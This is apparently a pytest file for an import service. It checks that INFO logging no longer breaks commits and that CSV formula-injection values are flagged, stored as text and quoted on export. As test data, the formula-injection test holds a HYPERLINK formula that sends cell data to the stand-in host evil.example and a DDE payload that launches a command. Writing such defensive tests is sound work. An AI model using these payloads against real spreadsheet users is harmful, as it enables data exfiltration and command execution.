"""The import door, with logging at INFO as `porchlight run` has it (issue 15).

Intake's import runner once logged ``extra={"created": ...}``, a field every log record already
has: with INFO on, ``logging`` raised ``KeyError`` after the rows were written, so every inline
commit answered 500 (its transaction rolled back) and every background commit ended "failed".
The other import tests run with INFO off, where nothing is formatted, which is how it hid.
"""

from __future__ import annotations

import ast
import csv
import io
import logging
import uuid
from pathlib import Path
from typing import Any

import httpx
import pytest
from support import bearer, eventually, running, scalar

from porchlight.kit.settings import KitSettings

ROOT = Path(__file__).resolve().parents[2]
#: What every log record already holds: an ``extra`` key among them makes ``logging`` raise.
RESERVED = set(vars(logging.LogRecord("n", 0, "p", 0, "m", None, None))) | {"message", "asctime"}


def _contacts(t: str, rows: int, note: str = "") -> bytes:
    lines = ["Date,Badge,Type,Minutes,Residents,District,Notes"]
    lines += [
        f"1/{1 + i % 28}/2025,B{i % 50:04d}-{t},conversation,{10 + i % 50},{i % 7},C6,{note}" for i in range(rows)
    ]
    return ("\n".join(lines) + "\n").encode()


async def _upload(client: httpx.AsyncClient, h: dict[str, str], data: bytes) -> httpx.Response:
    return await client.post("/v1/imports", headers=h, files={"file": ("c.csv", data)}, data={"kind": "contacts"})


async def _stored(settings: KitSettings, t: str) -> int:
    sql = "SELECT count(*) FROM intake.contacts WHERE officer_id LIKE :o"
    return int(str(await scalar(settings, sql, o=f"%-{t}")))


@pytest.fixture
def info_logs(caplog: pytest.LogCaptureFixture) -> pytest.LogCaptureFixture:
    caplog.set_level(logging.INFO, logger="porchlight")
    return caplog


async def test_an_inline_commit_with_info_logging_answers_200_and_stores_the_rows(
    settings: KitSettings, info_logs: pytest.LogCaptureFixture
) -> None:
    t = uuid.uuid4().hex[:6]
    async with running("intake", settings, background=False) as (_, client):
        h = bearer(settings, "supervisor", subject=f"sup-{t}")
        preview = await _upload(client, h, _contacts(t, 40))
        assert preview.status_code == 201, preview.text
        done = await client.post(f"/v1/imports/{preview.json()['import_id']}/commit", json={"rows": "all"}, headers=h)
        assert done.status_code == 200, done.text
        assert done.json()["commit"]["created"] == 40
    assert await _stored(settings, t) == 40
    committed = [r for r in info_logs.records if r.getMessage() == "import committed"]
    assert [getattr(r, "rows_created", None) for r in committed] == [40]


async def test_a_background_commit_with_info_logging_ends_done_not_failed(
    settings: KitSettings, info_logs: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in (("INLINE_MAX_BYTES", "0"), ("INLINE_MAX_ROWS", "0"), ("BATCH_ROWS", "50")):
        monkeypatch.setenv(f"PORCHLIGHT_INTAKE_IMPORT_{name}", value)
    monkeypatch.setenv("PORCHLIGHT_INTAKE_IMPORT_LEASE_SECONDS", "600")
    t = uuid.uuid4().hex[:6]
    async with running("intake", settings, background=False) as (_, client):
        h = bearer(settings, "supervisor", subject=f"sup-{t}")
        queued = await _upload(client, h, _contacts(t, 120))
        assert queued.status_code == 202, queued.text
        url = f"/v1/imports/{queued.json()['import_id']}"
        last: dict[str, Any] = {}

        async def status_is(*wanted: str) -> bool:
            last.update((await client.get(url, headers=h)).json())
            return last["status"] in wanted

        await eventually(lambda: status_is("validated", "failed"))
        assert last["status"] == "validated", last
        assert (await client.post(f"{url}/commit", json={"rows": "all"}, headers=h)).status_code == 202
        await eventually(lambda: status_is("done", "failed"))
    assert last["status"] == "done", last
    assert last["commit"]["created"] == 120
    assert await _stored(settings, t) == 120
    assert not [r for r in info_logs.records if r.getMessage().startswith("import failed")]


def test_no_log_call_in_any_service_passes_a_reserved_record_field_as_extra() -> None:
    clashes = []
    for path in sorted([*ROOT.glob("services/*/src/**/*.py"), *ROOT.glob("libs/*/src/**/*.py")]):
        for node in ast.walk(ast.parse(path.read_text())):
            if not isinstance(node, ast.Call):
                continue
            for kw in node.keywords:
                if kw.arg == "extra" and isinstance(kw.value, ast.Dict):
                    keys = [k.value for k in kw.value.keys if isinstance(k, ast.Constant)]
                    clashes += [f"{path.relative_to(ROOT)}:{node.lineno} {k}" for k in keys if k in RESERVED]
    assert clashes == []


async def test_formula_cells_are_pointed_out_imported_as_text_and_quoted_in_every_export(
    settings: KitSettings, info_logs: pytest.LogCaptureFixture
) -> None:
    t = uuid.uuid4().hex[:6]
    badge = f"B0001-{t}"
    notes = ['=HYPERLINK("http://evil.example/?"&A1)', "@SUM(1+1)", "+cmd|' /C calc'!A0", "fixed the porch light"]
    lines = ["Date,Badge,Type,Minutes,Residents,District,Notes"]
    lines += [
        f'1/{i + 2}/2025,{badge},conversation,{10 + i},2,C6,"{n.replace(chr(34), chr(34) * 2)}"'
        for i, n in enumerate(notes)
    ]
    async with running("intake", settings, background=False) as (_, client):
        h = bearer(settings, "supervisor", subject=f"sup-{t}")
        preview = await _upload(client, h, ("\n".join(lines) + "\n").encode())
        assert preview.status_code == 201, preview.text
        report = preview.json()
        assert (report["valid"], report["invalid"], report["errors"]) == (4, 0, [])
        assert [(w["row"], w["field"], w["column"]) for w in report["warnings"]] == [
            (2, "note", "Notes"),
            (3, "note", "Notes"),
            (4, "note", "Notes"),
        ]
        assert all("formula" in w["reason"] for w in report["warnings"])
        done = await client.post(f"/v1/imports/{report['import_id']}/commit", json={"rows": "all"}, headers=h)
        assert done.status_code == 200, done.text
        assert done.json()["commit"]["created"] == 4
        stored = await scalar(
            settings,
            "SELECT string_agg(note, '|' ORDER BY occurred_at) FROM intake.contacts WHERE officer_id = :o",
            o=badge,
        )
        assert stored == "|".join(notes)  # stored as the text it is
        export = await client.get("/v1/contacts/export.csv", params={"host": badge}, headers=h)
        assert export.status_code == 200, export.text
    rows = list(csv.DictReader(io.StringIO(export.text)))
    cells = [r["note_redacted"] for r in rows]
    assert len(cells) == 4
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    # Quoted with a ' (OWASP): shown as the text they are, never run (the words may be redacted).
    assert sorted(c[:2] for c in cells if c.startswith("'")) == ["'+", "'=", "'@"]
    assert "fixed the porch light" in cells
